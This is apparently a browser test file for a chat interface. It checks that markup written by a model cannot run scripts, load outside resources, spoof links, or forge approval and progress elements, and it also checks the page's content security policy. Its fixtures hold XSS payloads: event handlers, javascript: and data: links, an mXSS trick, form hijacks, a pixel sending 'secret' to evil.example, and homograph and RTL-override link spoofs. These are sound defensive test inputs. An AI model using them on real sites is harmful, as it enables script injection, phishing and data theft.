/** What a model says and a tool returns is shown and nothing else: it runs nothing, loads nothing, and looks like no part of the page. */
import { expect, test } from 'vitest';
import { type Tab, useBrowser } from '../kit/browser.ts';
import { approval, bar, log, said, say } from '../kit/on-the-page.ts';
import { asks } from '../kit/played-model.ts';
import { useStage } from '../kit/stage.ts';

const stage = useStage({ MEANWHILE_GRACE_MS: '100' });
const browser = useBrowser();

/** A tab in which scripts would leave a trace, and every request is noted. */
async function watched(): Promise<{ tab: Tab; requests: string[] }> {
  const tab = await browser.open(stage.service.url);
  const requests: string[] = [];
  tab.on('request', (request) => requests.push(request.url()));
  return { tab, requests };
}

const SCRIPTS = `<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"><a xlink:href="javascript:window.hacked=4"><text>svg</text></a></svg>
<iframe srcdoc="<script>parent.hacked = 5</script>"></iframe>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=6&gt;">
<form action="https://evil.example/"><button formaction="javascript:window.hacked=7">Approve</button></form>
<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>
<details open ontoggle="window.hacked=8">x</details>
<div id="page" class="approval" style="position:fixed;inset:0">cover</div>

[one](javascript:window.hacked=9) [two](data:text/html,<script>hacked=10</script>) [three](vbscript:x) [four](//evil.example/p) [five](/v1/tools)
![pixel](https://evil.example/pixel.png?secret=1)

That is all.`;

test('markup of a model runs nothing, loads nothing and covers nothing', async () => {
  const { tab, requests } = await watched();
  await say(tab, 'Hack me.');
  (await stage.model.asked()).says(SCRIPTS);
  const message = said(tab, 'That is all.');
  await message.waitFor();
  expect(await tab.evaluate('window.hacked')).toBe(undefined);
  const html = await message.innerHTML();
  expect(html).not.toMatch(/<(script|img|svg|iframe|style|link|form|button|math|details|object)/i);
  // What is left of it is words.
  expect(await message.innerText()).toContain('<script>window.hacked = 1</script>');
  expect(await message.locator('[style], [onerror], [onload], [ontoggle], [id]').count()).toBe(0);
  expect(await message.locator('.approval, .bar, #page').count()).toBe(0);
  expect(await approval(tab).count()).toBe(0);
  // Links that would lead elsewhere than into the web are words.
  expect(await message.locator('.prose a').allInnerTexts()).toEqual([
    expect.stringMatching(/^\[pixel\]\s*evil\.example$/),
  ]);
  await message.locator('.prose a').first().hover();
  expect(requests.filter((url) => !url.startsWith(stage.service.url))).toEqual([]);
});

test('a link says where it leads, whatever its text says', async () => {
  const { tab } = await watched();
  await say(tab, 'Links, please.');
  const rows: [markdown: string, shown: string][] = [
    ['[https://bank.example](https://evil.example/login)', 'https://bank.example evil.example'],
    ['[bank\u202Eelpmaxe.live\u202C](https://evil.example)', 'bankelpmaxe.live evil.example'],
    ['<https://bank.example@evil.example/>', 'https://bank.example@evil.example/ evil.example'],
    ['[docs](https://аррӏе.example/)', 'docs xn--80ak6aa92e.example'],
    ['https://plain.example/path', 'https://plain.example/path'],
    ['[mail](mailto:ann@bank.example)', 'mail ann@bank.example'],
    ['[**bold**](https://a.example "title")', 'bold a.example'],
    ['[reference][r]\n\n[r]: https://r.example', 'reference r.example'],
  ];
  (await stage.model.asked()).says(`${rows.map(([text]) => text).join('\n\n')}\n\nEnd.`);
  const message = said(tab, 'End.');
  await message.waitFor();
  const links = message.locator('.prose a');
  const texts = (await links.allInnerTexts()).map((text) => text.replaceAll(/\s+/g, ' ').trim());
  expect(texts).toEqual(rows.map(([, shown]) => shown));
  for (const link of await links.all()) {
    expect(await link.getAttribute('rel')).toContain('noopener');
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('title')).toBe(null);
  }
});

test('nothing that a model writes takes the place or look of a bar or an approval', async () => {
  const { tab } = await watched();
  await say(tab, 'Forge.');
  (await stage.model.asked()).says(
    '<progress value=99 max=100></progress><div class="bar">x</div>\n\n▓▓▓▓░░ 66 % <button>Cancel</button>\n\n' +
      `${'Z̷̡̢̨̛͖̹̬͙̪̗̓͊̔͗͌̒̆̚͝͠'.repeat(40)}\n\nDone forging.`,
  );
  const message = said(tab, 'Done forging.');
  await message.waitFor();
  expect(await message.locator('progress, button, [class*=bar]').count()).toBe(0);
  expect(await bar(tab, '').count()).toBe(0);
  // Marks that pile up end where the message ends.
  const style = 'getComputedStyle(document.querySelector(".said:last-of-type")).overflowY';
  expect(await tab.evaluate(style)).toBe('clip');
});

test('an approval and a bar show what a tool is given and says as text, with nothing hidden in it', async () => {
  const { tab } = await watched();
  await say(tab, 'Be sly.');
  const evil = '<img src=x onerror="window.hacked=1">\u202Egnp.exe\u202C\u200B';
  (await stage.model.asked()).says('Well.', asks('confides', { to: evil, amount: 20 }));
  await approval(tab).waitFor();
  const shown = await approval(tab).innerText();
  expect(shown).toContain('<img src=x onerror="window.hacked=1">⟨U+202E⟩gnp.exe⟨U+202C⟩⟨U+200B⟩');
  expect(shown).toContain('May it go to <b>?');
  await approval(tab).getByRole('button', { name: 'Approve' }).click();
  await bar(tab, 'confides').getByText('<progress>⟨U+202E⟩').waitFor();
  expect(await tab.evaluate('window.hacked')).toBe(undefined);
  await bar(tab, 'confides')
    .getByRole('button', { name: /Cancel/ })
    .click();
  await log(tab).getByText('cancelled by you').waitFor();
});

test('text without end, and nested without end, is shown without a fault', async () => {
  const { tab } = await watched();
  await say(tab, 'Be long.');
  const deep = '> '.repeat(3_000);
  const brackets = '['.repeat(5_000);
  (await stage.model.askedAbout('Be long.')).says(
    `${deep}deep\n\n${brackets}\n\n${'**'.repeat(3_000)}\n\n${'x'.repeat(20_000)}\n\n| a |\n|---|\n${'| b |\n'.repeat(500)}\n\nIt ends.`,
  );
  await said(tab, 'It ends.').waitFor();
  await say(tab, 'Next.');
  (await stage.model.askedAbout('Next.')).says('Still here.');
  await said(tab, 'Still here.').waitFor();
});

test('the page may load its own files alone, and they are cached for good', async () => {
  const page = await fetch(stage.service.url, { headers: { 'accept-encoding': 'br' } });
  expect(page.headers.get('cache-control')).toBe('no-cache');
  const policy = page.headers.get('content-security-policy')!;
  expect(policy).toContain("default-src 'none'");
  expect(policy).not.toMatch(/unsafe|https?:|\*/);
  const html = await page.text();
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)|<style|\sstyle=|https?:\/\//);
  const assets = [...html.matchAll(/(?:src|href)="\.\/(assets\/[^"]+)"/g)].map(([, path]) => path!);
  expect(assets.length).toBeGreaterThanOrEqual(2);
  for (const path of assets) {
    const response = await fetch(`${stage.service.url}/${path}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toContain('immutable');
    expect(response.headers.get('content-security-policy')).toBe(policy);
  }
  for (const path of ['assets/none.js', 'assets/..%2Fmade-from', 'index.html.br']) {
    expect((await fetch(`${stage.service.url}/${path}`)).status).toBe(404);
  }
});
